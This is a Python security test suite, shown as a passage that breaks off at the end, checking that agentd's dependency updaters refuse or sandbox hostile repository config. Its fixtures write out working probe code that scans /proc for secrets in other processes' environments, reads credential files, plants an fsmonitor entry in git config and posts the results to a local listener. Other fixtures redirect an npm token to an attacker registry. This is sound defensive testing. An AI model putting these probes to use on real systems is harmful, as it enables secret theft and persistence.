"""Repository config and code cannot reach past an updater's tool.

Issue "Wave 2 — 2/6", finding 2: updaters ran repository-controlled programs with no
sandbox. A yarn 1 `.yarnrc` `yarn-path` release read agentd's environment through
`/proc/<pid>/environ` and wrote the operator clone's `.git/config`; a `.npmrc` `git=` script
ran for a git dependency despite `--ignore-scripts --package-lock-only`; `.npmrc`
`registry=` + `//host/:_authToken=${NPM_TOKEN}` sent the operator's token to a host the
repository chose; cargo's `[build] rustc` ran during `cargo update`; an in-tree PEP 517
backend ran during `uv lock`; poetry executed `.pth` files from the project's
`.poetry/plugins`. Now repository config naming programs, registries or credentials is
refused before any tool runs, repository code that is the tool itself (berry's release, an
in-tree build backend) runs only inside the sandbox, and every tool runs in the
verification sandbox with the network shared for registries.

The tools are real, the registries loopback ones, the markers outside the worktree, the
canary in the exec-time environment of the process playing agentd, and the listeners
record whatever reaches them. The tests drive the updater interface of the code before the
change as well (which had no `UpdateContext.sandbox`), so against that code they show the
attacks succeeding, not an import error.
"""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from e2e import TOKEN, e2e, verify_ok
from ecosystems.registries.corepack import PNPM_9, serve_pnpm
from ecosystems.registries.npm import (
    lodash_registry,
    publish_lodash_fixes,
    write_package_json,
)
from ecosystems.registries.pypi import PythonIndex, http_world, publish_http_fixes
from ecosystems.registries.toolenv import OFFLINE, offline_env, private_home, python_tool, run
from ecosystems.registries.yarn import require_berry_release, require_yarn_classic
from support import require_tool

from agentd.ecosystems import PackageBump, UpdateContext, UpdateResult
from agentd.vocabulary import ReasonCode

CANARY = "agentd-canary-" + "Zq8x" * 6  # in the environment of the process playing agentd
LODASH = ("lodash", "4.17.15", "4.17.21", ("GHSA-35jh-r3h4-6jhm",))
URLLIB3 = ("urllib3", "1.26.5", "1.26.19", ("GHSA-34jh-p97f-mpxf",))
SMALLVEC = ("smallvec", "1.6.0", "1.6.1", ("GHSA-43w2-9j62-hq99",))
UPDATERS = {
    "yarn": "agentd.ecosystems.yarn.updater:YarnUpdater",
    "uv": "agentd.ecosystems.uv.updater:UvUpdater",
}


def bump(lockfile: str, package: tuple[str, str, str, tuple[str, ...]]) -> PackageBump:
    name, old, new, advisories = package
    return PackageBump(name, lockfile, old, new, advisories, "transitive")


def js_registry_env(url: str) -> dict[str, str]:
    """The operator's registry, for npm, yarn 1, pnpm and berry alike."""
    return {
        "NPM_CONFIG_REGISTRY": url,
        "PNPM_CONFIG_REGISTRY": url,
        "YARN_NPM_REGISTRY_SERVER": url.rstrip("/"),
        "YARN_UNSAFE_HTTP_WHITELIST": "127.0.0.1",
    }


# --- the unit's world: an operator clone, its worktree, secrets agentd keeps ------------------


@dataclass
class Unit:
    root: Path
    clone: Path  # the operator's clone
    worktree: Path  # the unit's worktree of it (under the state dir, as the engine makes it)
    home: Path  # the unit's private home
    markers: Path  # where hostile code leaves evidence when it runs outside any sandbox
    secret_file: Path  # agentd's credentials: hidden from sandboxed tools
    secret_dir: Path

    @property
    def state(self) -> Path:
        return self.root / "state"

    @property
    def hidden(self) -> tuple[Path, ...]:
        return (self.state, self.secret_file, self.secret_dir)

    @property
    def git_config(self) -> bytes:
        return (self.clone / ".git" / "config").read_bytes()

    def evidence(self) -> list[str]:
        return sorted(p.name for p in self.markers.iterdir())


def _git(*args: str) -> None:
    identity = ["-c", "user.email=t@example.com", "-c", "user.name=t"]
    subprocess.run(["git", *identity, *args], check=True, capture_output=True)


@pytest.fixture
def unit(tmp_path: Path) -> Unit:
    clone = tmp_path / "clones" / "api"
    _git("init", "-q", "-b", "main", str(clone))
    (clone / "README").write_text("operator's clone\n")
    _git("-C", str(clone), "add", "README")
    _git("-C", str(clone), "commit", "-qm", "init")
    worktree = tmp_path / "state" / "worktrees" / "run-1" / "api-unit"
    _git("-C", str(clone), "worktree", "add", "-q", "--detach", str(worktree))
    secret_file = tmp_path / "secrets" / "hosts.yml"
    secret_file.parent.mkdir()
    secret_file.write_text(CANARY)
    secret_dir = tmp_path / "registry-logins"
    secret_dir.mkdir()
    (secret_dir / "token").write_text(CANARY)
    (tmp_path / "markers").mkdir()
    return Unit(
        tmp_path, clone, worktree, private_home(tmp_path), tmp_path / "markers", secret_file,
        secret_dir,
    )  # fmt: skip


def sandbox_for(kind: str, unit: Unit) -> dict[str, Any]:
    """The context's sandbox, as the Dependabot plug-in builds it (code without one: none)."""
    if "sandbox" not in {f.name for f in dataclasses.fields(UpdateContext)}:
        return {}
    from agentd.verify import Sandbox

    if kind != "none":
        require_tool("bwrap")
    return {
        "sandbox": Sandbox(
            kind, writable=(unit.worktree, unit.home), hidden=unit.hidden, network=True
        )
    }


def context(unit: Unit, allowed: dict[str, str], sandbox: str = "none") -> UpdateContext:
    return UpdateContext(
        worktree=unit.worktree,
        target_path=".",
        env=offline_env(unit.home, allowed),
        home=unit.home,
        timeout_seconds=120,
        **sandbox_for(sandbox, unit),
    )


# An updater run in a process of its own whose environment, from exec on, carries the canary:
# the way agentd's environment carries GH_TOKEN in the operator guide's set-up.
_AGENTD = r"""
import dataclasses, json, sys
from pathlib import Path
from agentd.ecosystems import PackageBump, UpdateContext
args = json.loads(sys.argv[1])
module, _, name = args["updater"].partition(":")
updater = getattr(__import__(module, fromlist=[name]), name)()
worktree, home = Path(args["worktree"]), Path(args["home"])
extra = {}
if "sandbox" in {f.name for f in dataclasses.fields(UpdateContext)}:
    from agentd.verify import Sandbox
    hidden = tuple(Path(p) for p in args["hidden"])
    extra["sandbox"] = Sandbox(args["sandbox"], writable=(worktree, home), hidden=hidden, network=True)
context = UpdateContext(worktree=worktree, target_path=".", env=args["env"], home=home,
                        timeout_seconds=120, **extra)
bumps = [PackageBump(b[0], b[1], b[2], b[3], tuple(b[4]), "transitive") for b in args["bumps"]]
result = updater.apply(context, bumps)
print(json.dumps({"blocked": result.blocked and result.blocked.value, "detail": result.blocked_detail,
                  "output": result.tool_output, "changed": result.changed_files}))
"""


def apply_in_agentd_process(
    unit: Unit, ecosystem: str, allowed: dict[str, str], bumps: list[PackageBump], sandbox: str
) -> dict[str, Any]:
    if sandbox != "none":
        require_tool("bwrap")
    args = {
        "updater": UPDATERS[ecosystem], "worktree": str(unit.worktree), "home": str(unit.home),
        "env": offline_env(unit.home, allowed), "sandbox": sandbox,
        "hidden": [str(p) for p in unit.hidden],
        "bumps": [[b.name, b.manifest_path, b.current_version, b.target_version,
                   list(b.advisory_ids)] for b in bumps],
    }  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-c", _AGENTD, json.dumps(args)],
        env={**os.environ, "GH_TOKEN": CANARY}, capture_output=True, text=True, timeout=600,
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    answer: dict[str, Any] = json.loads(done.stdout.strip().splitlines()[-1])
    return answer


# --- listeners and hostile code ---------------------------------------------------------------


@dataclass
class Listener:
    url: str
    requests: list[dict[str, Any]] = field(default_factory=list)

    def reports(self) -> list[dict[str, Any]]:
        return [json.loads(r["body"]) for r in self.requests if r["method"] == "POST"]


@contextmanager
def listener() -> Iterator[Listener]:
    """Records every request (headers and body) and answers 404."""
    heard = Listener("")

    class Handler(BaseHTTPRequestHandler):
        def _record(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            heard.requests.append({
                "method": self.command, "path": self.path,
                "headers": dict(self.headers.items()), "body": body.decode(errors="replace"),
            })  # fmt: skip
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = do_PUT = do_HEAD = _record

        def log_message(self, format: str, *args: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    heard.url = f"http://127.0.0.1:{server.server_address[1]}/"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield heard
    finally:
        server.shutdown()
        server.server_close()


def probe_config(unit: Unit, beacon: str = "", marker: str = "") -> dict[str, Any]:
    """What hostile code looks for: the canary in any process's environment, agentd's
    secrets, the operator's clone and the state dir; and where it reports."""
    return {
        "canary": CANARY,
        "hidden": [str(unit.secret_file), str(unit.secret_dir / "token")],
        "beacon": beacon,
        "marker": marker,
        "state": str(unit.state),
    }


_PROBE_JS = r"""
"use strict";
const fs = require("fs"), path = require("path"), cp = require("child_process");
const found = {environ: [], hidden: {}, gitconfig: "", state: null};
for (const pid of fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
  try { if (fs.readFileSync(`/proc/${pid}/environ`, "latin1").includes(cfg.canary)) found.environ.push(pid); } catch (e) {}
}
for (const file of cfg.hidden) {
  try { found.hidden[file] = fs.readFileSync(file, "latin1"); } catch (e) { found.hidden[file] = e.code || "error"; }
}
try {  // the operator's clone, found through the worktree's .git file
  let dir = process.cwd();
  while (!fs.existsSync(path.join(dir, ".git")) && dir !== "/") dir = path.dirname(dir);
  const gitdir = fs.readFileSync(path.join(dir, ".git"), "utf8").match(/gitdir: (.*)/)[1].trim();
  fs.appendFileSync(path.join(gitdir, "..", "..", "config"), "\n[core]\n\tfsmonitor = /tmp/agentd-pwned\n");
  found.gitconfig = "written";
} catch (e) { found.gitconfig = e.code || String(e); }
if (cfg.state) { try { found.state = fs.readdirSync(cfg.state); } catch (e) { found.state = e.code; } }
const report = JSON.stringify(found);
if (cfg.marker) { try { fs.writeFileSync(`${cfg.marker}.${process.pid}`, report); } catch (e) {} }
if (cfg.beacon) {
  const post = "const u=new URL(process.argv[1]);const r=require('http').request({host:u.hostname,port:u.port,path:u.pathname,method:'POST'},(s)=>{s.resume();s.on('end',()=>process.exit(0))});r.on('error',()=>process.exit(1));r.end(process.argv[2]);";
  try { cp.execFileSync(process.execPath, ["-e", post, cfg.beacon, report], {stdio: "ignore", timeout: 10000}); } catch (e) {}
}
"""


def hostile_yarn_release(config: dict[str, Any], then: str) -> str:
    """A committed "yarn release": probes what it can reach, then behaves like yarn."""
    return f"const cfg = {json.dumps(config)};\n{_PROBE_JS}\n{then}\n"


_PROBE_PY = r"""
import json, os, pathlib, urllib.request
def _probe(cfg):
    found = {"environ": [], "hidden": {}, "gitconfig": "", "state": None}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if cfg["canary"].encode() in pathlib.Path(f"/proc/{pid}/environ").read_bytes():
                found["environ"].append(pid)
        except OSError:
            pass
    for name in cfg["hidden"]:
        try:
            found["hidden"][name] = pathlib.Path(name).read_text(errors="replace")
        except OSError as exc:
            found["hidden"][name] = type(exc).__name__
    try:
        top = pathlib.Path.cwd()
        while not (top / ".git").exists() and top != top.parent:
            top = top.parent
        gitdir = pathlib.Path((top / ".git").read_text().split("gitdir:", 1)[1].strip())
        with open(gitdir.parent.parent / "config", "a") as config:
            config.write("\n[core]\n\tfsmonitor = /tmp/agentd-pwned\n")
        found["gitconfig"] = "written"
    except Exception as exc:
        found["gitconfig"] = type(exc).__name__
    try:
        found["state"] = os.listdir(cfg["state"])
    except OSError as exc:
        found["state"] = type(exc).__name__
    report = json.dumps(found)
    if cfg["marker"]:
        try:
            pathlib.Path(f"{cfg['marker']}.{os.getpid()}").write_text(report)
        except OSError:
            pass
    if cfg["beacon"]:
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            opener.open(urllib.request.Request(cfg["beacon"], data=report.encode()), timeout=10)
        except Exception:
            pass
"""


def hostile_backend(config: dict[str, Any], requires: list[str]) -> str:
    """An in-tree PEP 517 backend that probes on import, then serves metadata for a lock."""
    metadata = "Metadata-Version: 2.1\nName: app\nVersion: 0.1.0\n" + "".join(
        f"Requires-Dist: {r}\n" for r in requires
    )
    return (
        _PROBE_PY
        + f"_probe(json.loads({json.dumps(config)!r}))\n"
        + f"""
def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(directory, config_settings=None):
    info = pathlib.Path(directory) / "app-0.1.0.dist-info"
    info.mkdir(parents=True, exist_ok=True)
    (info / "METADATA").write_text({metadata!r})
    return info.name

def build_wheel(*args, **kwargs):
    raise RuntimeError("a lock needs metadata only")

get_requires_for_build_editable = get_requires_for_build_wheel
prepare_metadata_for_build_editable = prepare_metadata_for_build_wheel
build_editable = build_wheel
"""
    )


def assert_contained(reports: list[dict[str, Any]]) -> None:
    """What sandboxed hostile code reported: nothing of agentd's, no write to the clone."""
    assert reports, "the hostile code never ran: the test proves nothing"
    for report in reports:
        assert report["environ"] == [], report  # no process carrying the canary is visible
        assert all(CANARY not in str(v) for v in report["hidden"].values()), report
        assert report["gitconfig"] != "written", report
        assert set(report["state"] or []) <= {"worktrees"}, report  # the state dir is empty


def result_of(result: UpdateResult) -> tuple[Any, ...]:
    return (result.blocked, result.blocked_detail, result.tool_output[-1500:])


# --- refused before anything runs -------------------------------------------------------------


def test_a_yarn_path_release_never_runs(unit: Unit) -> None:
    require_yarn_classic()
    root = unit.worktree
    write_package_json(root, {"name": "web", "version": "1.0.0", "dependencies": {"lodash": "^4.17.0"}})  # fmt: skip
    (root / "yarn.lock").write_text(
        '# yarn lockfile v1\n\n\nlodash@^4.17.0:\n  version "4.17.15"\n'
        '  resolved "http://127.0.0.1:9/lodash/-/lodash-4.17.15.tgz"\n'
    )
    release = root / ".yarn" / "releases" / "yarn-1.22.19.js"
    release.parent.mkdir(parents=True)
    config = probe_config(unit, marker=str(unit.markers / "yarn-path"))
    release.write_text(hostile_yarn_release(config, 'console.log("1.22.22");'))
    (root / ".yarnrc").write_text('yarn-path ".yarn/releases/yarn-1.22.19.js"\n')
    config_before = unit.git_config

    answer = apply_in_agentd_process(unit, "yarn", {}, [bump("yarn.lock", LODASH)], "none")

    assert unit.evidence() == [], [p.read_text() for p in unit.markers.iterdir()]
    assert unit.git_config == config_before
    assert answer["blocked"] == ReasonCode.POLICY_BLOCKED.value, answer
    assert answer["detail"].startswith(".yarnrc: `yarn-path`"), answer


def test_an_npmrc_git_program_never_runs(unit: Unit) -> None:
    require_tool("npm")
    dependency = unit.root / "dep"
    _git("init", "-q", "-b", "main", str(dependency))
    write_package_json(dependency, {"name": "dep", "version": "1.0.0"})
    _git("-C", str(dependency), "add", "package.json")
    _git("-C", str(dependency), "commit", "-qm", "dep")
    registry = lodash_registry()
    with registry.serve() as url:
        root = unit.worktree
        write_package_json(root, {"name": "web", "version": "1.0.0", "dependencies": {"uses-lodash": "^1.0.0"}})  # fmt: skip
        run(["npm", "install", "--package-lock-only", "--ignore-scripts"], root,
            offline_env(unit.home, js_registry_env(url)))  # fmt: skip
        publish_lodash_fixes(registry)
        manifest = json.loads((root / "package.json").read_text())
        manifest["dependencies"]["dep"] = f"git+file://{dependency}"
        write_package_json(root, manifest)
        program = root / "tools" / "git"
        program.parent.mkdir()
        program.write_text(f'#!/bin/sh\necho ran > {unit.markers / "npm-git"}\nexec git "$@"\n')
        program.chmod(0o755)
        (root / ".npmrc").write_text(f"git={program}\n")
        from agentd.ecosystems.npm.updater import NpmUpdater

        result = NpmUpdater().apply(
            context(unit, js_registry_env(url)), [bump("package-lock.json", LODASH)]
        )

    assert unit.evidence() == []
    assert result.blocked is ReasonCode.POLICY_BLOCKED, result_of(result)
    assert result.blocked_detail.startswith(".npmrc: `git` names a program"), result_of(result)


def test_an_npmrc_registry_never_receives_the_operators_token(unit: Unit) -> None:
    require_tool("npm")
    token = "npm_" + "OperatorRegistryToken" * 2
    registry = lodash_registry()
    with registry.serve() as url, listener() as attacker:
        root = unit.worktree
        write_package_json(root, {"name": "web", "version": "1.0.0", "dependencies": {"uses-lodash": "^1.0.0"}})  # fmt: skip
        run(["npm", "install", "--package-lock-only", "--ignore-scripts"], root,
            offline_env(unit.home, js_registry_env(url)))  # fmt: skip
        host = attacker.url.removeprefix("http:")
        (root / ".npmrc").write_text(f"registry={attacker.url}\n{host}:_authToken=${{NPM_TOKEN}}\n")
        from agentd.ecosystems.npm.updater import NpmUpdater

        # the operator allowlisted its token, and names no registry (npm's default)
        result = NpmUpdater().apply(
            context(unit, {"NPM_TOKEN": token}), [bump("package-lock.json", LODASH)]
        )

    leaked = [r["headers"] for r in attacker.requests if token in json.dumps(r)]
    assert leaked == [], "the operator's token reached the repository's registry"
    assert attacker.requests == [], attacker.requests  # not one request either
    assert result.blocked is ReasonCode.POLICY_BLOCKED, result_of(result)
    assert result.blocked_detail.startswith(".npmrc: `registry` chooses a package registry")


@pytest.mark.parametrize("attack", ["corepack.env", "packageManager url"])
def test_corepack_never_fetches_pnpm_from_where_the_repository_says(
    unit: Unit, attack: str
) -> None:
    """A committed `.corepack.env` naming a registry (where corepack would send the
    operator's COREPACK_NPM_TOKEN), or a `packageManager` URL, gets no request."""
    require_tool("pnpm")
    require_tool("corepack")
    token = "npm_" + "OperatorCorepackToken" * 2
    registry = lodash_registry()
    with registry.serve() as url, listener() as attacker:
        root = unit.worktree
        write_package_json(root, {"name": "web", "version": "1.0.0", "dependencies": {"uses-lodash": "^1.0.0"}})  # fmt: skip
        run(["pnpm", "install", "--lockfile-only", "--ignore-scripts"], root,
            offline_env(unit.home, js_registry_env(url)))  # fmt: skip
        package = json.loads((root / "package.json").read_text())
        if attack == "corepack.env":
            package["packageManager"] = f"pnpm@{PNPM_9}"  # not cached: corepack must fetch it
            (root / ".corepack.env").write_text(f"COREPACK_NPM_REGISTRY={attacker.url}\n")
        else:
            package["packageManager"] = f"pnpm@{attacker.url}pnpm.tgz"
        (root / "package.json").write_text(json.dumps(package))
        from agentd.ecosystems.pnpm.updater import PnpmUpdater

        # the operator allowlisted a token for corepack's registry (npm's, by default)
        allowed = {**js_registry_env(url), "COREPACK_NPM_TOKEN": token}
        result = PnpmUpdater().apply(context(unit, allowed), [bump("pnpm-lock.yaml", LODASH)])

    assert attacker.requests == [], attacker.requests
    assert token not in result.tool_output + result.blocked_detail
    expected = (
        ReasonCode.VERIFICATION_UNAVAILABLE  # npm's registry is out of reach from the test
        if attack == "corepack.env"
        else ReasonCode.UNSUPPORTED_ECOSYSTEM
    )
    assert result.blocked is expected, result_of(result)


def test_a_cargo_config_rustc_never_runs(unit: Unit) -> None:
    require_tool("cargo")
    from ecosystems.registries.cargo import CargoRegistry

    from agentd.ecosystems.cargo.updater import CargoUpdater, _rustup_home

    crates = CargoRegistry(unit.root / "crates").publish("smallvec", "1.6.0")
    cargo_home = unit.root / "operator-cargo-home"  # the operator's registry setting
    cargo_home.mkdir()
    (cargo_home / "config.toml").write_text(crates.source_replacement())
    allowed = {"CARGO_HOME": str(cargo_home), **_rustup_home(offline_env(unit.home))}
    root = unit.worktree
    (root / "src").mkdir()
    (root / "src" / "lib.rs").write_text("")
    (root / "Cargo.toml").write_text(
        '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n\n'
        '[dependencies]\nsmallvec = "1"\n'
    )
    run(["cargo", "generate-lockfile"], root, offline_env(unit.home, allowed))
    crates.publish("smallvec", "1.6.1")
    program = root / "tools" / "rustc"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\necho ran >> {unit.markers / "rustc"}\nexec rustc "$@"\n')
    program.chmod(0o755)
    (root / ".cargo").mkdir()
    (root / ".cargo" / "config.toml").write_text(f'[build]\nrustc = "{program}"\n')

    result = CargoUpdater().apply(context(unit, allowed), [bump("Cargo.lock", SMALLVEC)])

    assert unit.evidence() == []
    assert result.blocked is ReasonCode.POLICY_BLOCKED, result_of(result)
    assert result.blocked_detail.startswith(".cargo/config.toml: `build.rustc` names a program")


@contextmanager
def uv_project_with_in_tree_backend(unit: Unit, config: dict[str, Any]) -> Iterator[str]:
    """A uv project locked with static metadata, then switched to an in-tree backend that
    uv must run to read it (dynamic version)."""
    python_tool("uv")
    index = http_world(PythonIndex(unit.root / "index"))
    with index.serve() as url:
        root = unit.worktree
        build_system = (
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n\n'
        )
        project = '[project]\nname = "app"\nrequires-python = ">=3.8"\ndependencies = ["httpclient>=1.0"]\n'  # fmt: skip
        (root / "pyproject.toml").write_text(build_system + project + 'version = "0.1.0"\n')
        (root / "backend.py").write_text(hostile_backend(config, ["httpclient>=1.0"]))
        env = offline_env(unit.home, {"UV_PYTHON_DOWNLOADS": "never", "UV_DEFAULT_INDEX": url})
        run([python_tool("uv"), "lock"], root, env)  # static metadata: the backend is not run
        assert unit.evidence() == []
        (root / "pyproject.toml").write_text(build_system + project + 'dynamic = ["version"]\n')
        publish_http_fixes(index)
        yield url


def test_an_in_tree_build_backend_never_runs_outside_the_sandbox(unit: Unit) -> None:
    config = probe_config(unit, marker=str(unit.markers / "backend"))
    with uv_project_with_in_tree_backend(unit, config) as url:
        answer = apply_in_agentd_process(
            unit, "uv", {"UV_DEFAULT_INDEX": url}, [bump("uv.lock", URLLIB3)], "none"
        )

    assert unit.evidence() == [], [p.read_text() for p in unit.markers.iterdir()]
    assert answer["blocked"] == ReasonCode.POLICY_BLOCKED.value, answer
    assert answer["detail"].startswith("pyproject.toml: `build-system.backend-path`"), answer


def test_a_yarn_berry_release_never_runs_outside_the_sandbox(unit: Unit) -> None:
    require_yarn_classic()
    root = unit.worktree
    write_package_json(root, {"name": "web", "version": "1.0.0", "dependencies": {"lodash": "^4.17.0"}})  # fmt: skip
    (root / "yarn.lock").write_text(
        '__metadata:\n  version: 8\n\n"lodash@npm:^4.17.0":\n  version: 4.17.15\n'
        '  resolution: "lodash@npm:4.17.15"\n'
    )
    release = root / ".yarn" / "releases" / "yarn-4.cjs"
    release.parent.mkdir(parents=True)
    config = probe_config(unit, marker=str(unit.markers / "berry"))
    release.write_text(hostile_yarn_release(config, 'console.log("4.18.1");'))
    (root / ".yarnrc.yml").write_text("yarnPath: .yarn/releases/yarn-4.cjs\n")

    answer = apply_in_agentd_process(unit, "yarn", {}, [bump("yarn.lock", LODASH)], "none")

    assert unit.evidence() == [], [p.read_text() for p in unit.markers.iterdir()]
    assert answer["blocked"] == ReasonCode.POLICY_BLOCKED.value, answer
    assert answer["detail"].startswith(".yarnrc.yml: `yarnPath`"), answer


def test_poetry_never_loads_the_projects_plugin_directory(unit: Unit) -> None:
    python_tool("poetry")
    index = http_world(PythonIndex(unit.root / "index"))
    with index.serve() as url:
        root = unit.worktree
        (root / "pyproject.toml").write_text(
            '[project]\nname = "app"\nversion = "0.1.0"\nrequires-python = ">=3.8"\n'
            'dependencies = ["httpclient>=1.0"]\n\n[tool.poetry]\npackage-mode = false\n\n'
            f'[[tool.poetry.source]]\nname = "local"\nurl = "{url}"\npriority = "primary"\n'
        )
        env = {"POETRY_KEYRING_ENABLED": "false", "POETRY_NO_INTERACTION": "1"}
        run([python_tool("poetry"), "lock"], root, offline_env(unit.home, env))
        publish_http_fixes(index)
        plugins = root / ".poetry" / "plugins"
        plugins.mkdir(parents=True)
        marker = unit.markers / "poetry-pth"
        (plugins / "evil.pth").write_text(f"import pathlib; pathlib.Path({str(marker)!r}).write_text('ran')\n")  # fmt: skip
        from agentd.ecosystems.poetry.updater import PoetryUpdater

        result = PoetryUpdater().apply(
            context(unit, {"POETRY_REPOSITORIES_LOCAL_URL": url}), [bump("poetry.lock", URLLIB3)]
        )

    assert unit.evidence() == []
    assert result.blocked is None, result_of(result)  # the update itself goes through


@pytest.mark.parametrize("tool", ["uv", "poetry"])
def test_a_committed_project_venv_python_never_runs(unit: Unit, tool: str) -> None:
    """uv and poetry look for the project's `.venv` and run its `python` to learn about it."""
    python_tool(tool)
    index = http_world(PythonIndex(unit.root / "index"))
    with index.serve() as url:
        root = unit.worktree
        source = f'\n[tool.poetry]\npackage-mode = false\n\n[[tool.poetry.source]]\nname = "local"\nurl = "{url}"\npriority = "primary"\n'  # fmt: skip
        (root / "pyproject.toml").write_text(
            '[project]\nname = "app"\nversion = "0.1.0"\nrequires-python = ">=3.8"\n'
            'dependencies = ["httpclient>=1.0"]\n' + (source if tool == "poetry" else "")
        )
        allowed = {"UV_DEFAULT_INDEX": url} if tool == "uv" else {"POETRY_REPOSITORIES_LOCAL_URL": url}  # fmt: skip
        env = {"UV_PYTHON_DOWNLOADS": "never", "POETRY_KEYRING_ENABLED": "false", **allowed}
        run([python_tool(tool), "lock"], root, offline_env(unit.home, env))
        publish_http_fixes(index)
        python = root / ".venv" / "bin" / "python"
        python.parent.mkdir(parents=True)
        (root / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
        python.write_text(
            f'#!/bin/sh\necho ran >> {unit.markers / "venv-python"}\nexec {sys.executable} "$@"\n'
        )
        python.chmod(0o755)
        from agentd.ecosystems.poetry.updater import PoetryUpdater
        from agentd.ecosystems.uv.updater import UvUpdater

        updater = UvUpdater() if tool == "uv" else PoetryUpdater()
        result = updater.apply(context(unit, allowed), [bump(f"{tool}.lock", URLLIB3)])

    assert unit.evidence() == []
    assert result.blocked is None, result_of(result)


# --- inside the sandbox -----------------------------------------------------------------------


def test_a_berry_release_runs_only_inside_the_sandbox_and_reaches_nothing(unit: Unit) -> None:
    require_yarn_classic()
    real = require_berry_release()
    registry = lodash_registry()
    with registry.serve() as url, listener() as beacon:
        root = unit.worktree
        write_package_json(root, {"name": "web", "version": "1.0.0", "dependencies": {"uses-lodash": "^1.0.0"}})  # fmt: skip
        release = root / ".yarn" / "releases" / "yarn-4.cjs"
        release.parent.mkdir(parents=True)
        release.write_bytes(real.read_bytes())
        (root / ".yarnrc.yml").write_text("yarnPath: .yarn/releases/yarn-4.cjs\n")
        env = offline_env(unit.home, {**js_registry_env(url), "YARN_ENABLE_IMMUTABLE_INSTALLS": "false"})  # fmt: skip
        run(["yarn", "install", "--mode=update-lockfile"], root, env)
        (root / ".yarn" / "install-state.gz").unlink(missing_ok=True)
        publish_lodash_fixes(registry)
        config = probe_config(unit, beacon=beacon.url)
        release.write_text(hostile_yarn_release(config, f"require({str(real)!r});"))
        config_before = unit.git_config

        answer = apply_in_agentd_process(
            unit, "yarn", js_registry_env(url), [bump("yarn.lock", LODASH)], "bwrap"
        )

    assert_contained(beacon.reports())
    assert unit.git_config == config_before
    assert answer["blocked"] is None, answer  # the committed release still works as yarn
    assert answer["changed"] == ["yarn.lock"], answer


def test_an_in_tree_build_backend_runs_inside_the_sandbox_and_reaches_nothing(
    unit: Unit,
) -> None:
    with listener() as beacon:
        config = probe_config(unit, beacon=beacon.url)
        with uv_project_with_in_tree_backend(unit, config) as url:
            config_before = unit.git_config
            answer = apply_in_agentd_process(
                unit, "uv", {"UV_DEFAULT_INDEX": url}, [bump("uv.lock", URLLIB3)], "bwrap"
            )

    assert_contained(beacon.reports())
    assert unit.git_config == config_before
    assert answer["blocked"] is None, answer
    assert answer["changed"] == ["uv.lock"], answer


def test_a_sandboxed_tool_sees_no_hidden_path_no_agentd_process_and_leaves_nothing_running(
    unit: Unit,
) -> None:
    from agentd.ecosystems._shared.tooling import ToolRunner

    late = unit.worktree / "written-after-the-tool-returned"
    script = (
        f"cat {unit.secret_file} {unit.secret_dir}/token; "
        f"test -e /proc/{os.getpid()}/environ && echo agentd-process-visible; "
        f"(setsid sh -c 'sleep 2; echo late > {late}' &); exit 0"
    )
    runner = ToolRunner(context(unit, {}, sandbox="bwrap"), "sh")
    result = runner.run(["-c", script], unit.worktree)
    time.sleep(3.5)

    assert result.exit_code == 0, result.output
    assert CANARY not in result.output
    assert "agentd-process-visible" not in result.output
    assert not late.exists(), "a process the tool started outlived it"


# --- allowed updates still work under bwrap ---------------------------------------------------


@dataclass
class Case:
    updater: Any
    context: UpdateContext
    bumps: list[PackageBump]
    lockfile: str


def _js_case(ecosystem: str, unit: Unit, url: str) -> Case:
    from ecosystems.registries.corepack import corepack_settings
    from ecosystems.registries.yarn import write_berry_project

    from agentd.ecosystems.npm.updater import NpmUpdater
    from agentd.ecosystems.pnpm.updater import PnpmUpdater
    from agentd.ecosystems.yarn.updater import YarnUpdater

    root, env = unit.worktree, offline_env(unit.home, js_registry_env(url))
    write_package_json(root, {"name": "web", "version": "1.0.0", "dependencies": {"uses-lodash": "^1.0.0"}})  # fmt: skip
    modules = str(unit.home / "fixture-modules")
    install: dict[str, tuple[list[str], Any, str]] = {
        "npm": (["npm", "install", "--package-lock-only"], NpmUpdater(), "package-lock.json"),
        "pnpm": (["pnpm", "install", "--lockfile-only"], PnpmUpdater(), "pnpm-lock.yaml"),
        "yarn": (["yarn", "install", "--modules-folder", modules], YarnUpdater(), "yarn.lock"),
        "berry": (["yarn", "install", "--mode=update-lockfile"], YarnUpdater(), "yarn.lock"),
    }
    argv, updater, lockfile = install[ecosystem]
    require_tool(argv[0])
    if ecosystem == "berry":
        write_berry_project(root, require_berry_release())
    run([*argv, "--ignore-scripts"] if ecosystem != "berry" else argv, root,
        {**env, "YARN_ENABLE_IMMUTABLE_INSTALLS": "false"})  # fmt: skip
    (root / ".yarn" / "install-state.gz").unlink(missing_ok=True)
    allowed = js_registry_env(url)
    if ecosystem == "pnpm":  # corepack fetches pnpm 9 (the 9.0 lockfile's) into the private home
        allowed |= {
            k: v for k, v in corepack_settings(url, unit.home).items() if k != "COREPACK_HOME"
        }
    sandboxed = context(unit, allowed, sandbox="bwrap")
    return Case(updater, sandboxed, [bump(lockfile, LODASH)], lockfile)


def _python_case(ecosystem: str, unit: Unit, url: str) -> Case:
    from ecosystems.registries.pypi import index_env, pyproject

    from agentd.ecosystems.poetry.updater import PoetryUpdater
    from agentd.ecosystems.uv.updater import UvUpdater

    root = unit.worktree
    (root / "pyproject.toml").write_text(pyproject(url, ["httpclient>=1.0"], ecosystem))
    env = {"UV_PYTHON_DOWNLOADS": "never", "POETRY_KEYRING_ENABLED": "false", **index_env(url)}
    run([python_tool(ecosystem), "lock"], root, offline_env(unit.home, env))
